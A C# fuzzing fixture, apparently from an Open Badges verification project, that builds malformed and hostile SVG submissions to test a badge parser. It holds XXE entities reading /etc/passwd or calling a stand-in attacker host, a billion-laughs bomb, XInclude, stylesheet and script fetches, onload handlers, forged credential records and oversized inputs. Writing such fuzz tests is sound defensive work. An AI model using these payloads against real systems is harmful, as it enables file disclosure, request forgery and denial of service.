using System.Text;
using Badges.Credentials.Baking;

namespace Badges.Fuzzing.Submissions;

/// <summary>Drawings with entities, inclusions, scripts, and other files inside.</summary>
public static class SvgTricks
{
    private const string Start =
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:openbadges=\"https://purl.imsglobal.org/ob/v3p0\"";

    private static string Baked { get; } =
        Encoding.UTF8.GetString(SvgBaking.Bake(Encoding.UTF8.GetBytes(FuzzBadges.Svg), FuzzBadges.Jcs));

    public static IReadOnlyList<Trick> All { get; } =
    [
        Trick.OfText("svg: genuine", () => Baked, mayBeValid: true),
        Entities("svg: entity", "<!ENTITY e \"a\">", "&e;"),
        Entities("svg: entity of a file", "<!ENTITY e SYSTEM \"file:///etc/passwd\">", "&e;"),
        Entities("svg: entity of a site", $"<!ENTITY e SYSTEM \"{Trick.Attacker}/seen\">", "&e;"),
        Entities("svg: parameter entity", $"<!ENTITY % e SYSTEM \"{Trick.Attacker}/seen\"> %e;", ""),
        Entities("svg: a billion laughs", Laughs(), "&l9;"),
        Entities(
            "svg: entity of 50 kB, 50 000 times",
            $"<!ENTITY e \"{new string('a', 50_000)}\">", Trick.Repeat("&e;", 50_000)),
        Entities("svg: entity that holds itself", "<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">", "&a;"),
        Entities("svg: default attributes", "<!ATTLIST svg onload CDATA \"a()\">", "") with { MayBeValid = true },
        Head("svg: outside document type", $"<!DOCTYPE svg SYSTEM \"{Trick.Attacker}/seen\">", mayBeValid: true),
        Head("svg: style sheet", $"<?xml-stylesheet href=\"{Trick.Attacker}/seen\"?>", mayBeValid: true),
        Head("svg: 100 000 instructions", Trick.Repeat("<?a b?>", 100_000), mayBeValid: true),
        Inside(
            "svg: inclusion",
            $"<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{Trick.Attacker}/seen\"/>"),
        Inside("svg: script", "<script>fetch('https://attacker.example.org/seen')</script>"),
        Inside(
            "svg: HTML",
            "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\" onload=\"a()\"/></foreignObject>"),
        Inside("svg: outside picture", $"<image href=\"{Trick.Attacker}/seen\"/>"),
        Inside("svg: 90 deep", Trick.Repeat("<g>", 90) + Trick.Repeat("</g>", 90)),
        Inside("svg: 5000 deep", Trick.Repeat("<g>", 5000) + Trick.Repeat("</g>", 5000)),
        Inside("svg: 300 000 elements", Trick.Repeat("<g/>", 300_000)),
        Inside(
            "svg: 150 000 attributes",
            $"<g {Join(150_000, "a{0}=\"\"")}/>"),
        Inside(
            "svg: 50 000 namespaces",
            $"<g {Join(50_000, "xmlns:a{0}=\"a\"")}/>"),
        Inside("svg: comment of 4 MB", $"<!--{new string('a', 4_000_000)}-->"),
        Inside("svg: second record", $"<openbadges:credential>{FuzzBadges.Jwt}</openbadges:credential>"),
        Inside("svg: second record, forged",
            "<openbadges:credential><![CDATA[{\"type\":\"OpenBadgeCredential\"}]]></openbadges:credential>"),
        Trick.OfText("svg: record with a token and a text", () =>
            $"{Start}><openbadges:credential verify=\"{FuzzBadges.Jwt}\">"
            + $"<![CDATA[{FuzzBadges.Jcs}]]></openbadges:credential></svg>"),
        Trick.OfText("svg: record in text alone", () => $"{Start}><text><![CDATA[{FuzzBadges.Jcs}]]></text></svg>"),
        Trick.OfText("svg: record in another namespace", () => Baked.Replace(
            "https://purl.imsglobal.org/ob/v3p0", "https://purl.imsglobal.org/ob/v3p1", StringComparison.Ordinal)),
        Trick.OfText("svg: not closed", () => Baked[..^10]),
        Trick.OfText("svg: NUL", () => Baked.Replace("<title>", "<title>\0", StringComparison.Ordinal)),
        Trick.OfText("svg: HTML around it", () => $"<!doctype html><html><body>{Baked}</body></html>"),
        Trick.OfText("svg: two roots", () => Baked + "<svg xmlns=\"http://www.w3.org/2000/svg\"/>"),
        new("svg: UTF-16", () => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Baked[38..])], true),
        new("svg: UTF-32", () => [.. Encoding.UTF32.GetPreamble(), .. Encoding.UTF32.GetBytes(Baked)]),
        new(
            "svg: says UTF-7",
            () => Encoding.ASCII.GetBytes("<?xml version=\"1.0\" encoding=\"utf-7\"?>+ADw-svg+AD4-")),
        new("svg: bytes that are not UTF-8", () => [.. Encoding.UTF8.GetBytes(Baked[..^6]), 0xC0, 0xAF, .. "</svg>"u8]),
        new("svg: compressed", () => FuzzBadges.Gzip(Encoding.UTF8.GetBytes(Baked))),
        new("svg: 6 MB", () => Encoding.UTF8.GetBytes($"{Start}><!--{new string('a', 6_000_000)}--></svg>")),
    ];

    private static Trick Entities(string name, string declarations, string use) => Trick.OfText(name, () =>
        $"<!DOCTYPE svg [{declarations}]>{Baked[(Baked.IndexOf("?>", StringComparison.Ordinal) + 2)..]
            .Replace("<title>", $"<title>{use}", StringComparison.Ordinal)}");

    private static Trick Head(string name, string head, bool mayBeValid) => Trick.OfText(
        name, () => head + Baked[(Baked.IndexOf("?>", StringComparison.Ordinal) + 2)..], mayBeValid);

    private static Trick Inside(string name, string inside) => Trick.OfText(
        name, () => Baked.Replace("</svg>", inside + "</svg>", StringComparison.Ordinal), mayBeValid: true);

    private static string Join(int count, string attribute) => string.Join(
        ' ',
        Enumerable.Range(0, count).Select(number => attribute.Replace("{0}", $"{number}", StringComparison.Ordinal)));

    private static string Laughs() => "<!ENTITY l0 \"ha\">" + string.Concat(Enumerable.Range(1, 9)
        .Select(number => $"<!ENTITY l{number} \"{Trick.Repeat($"&l{number - 1};", 10)}\">"));
}
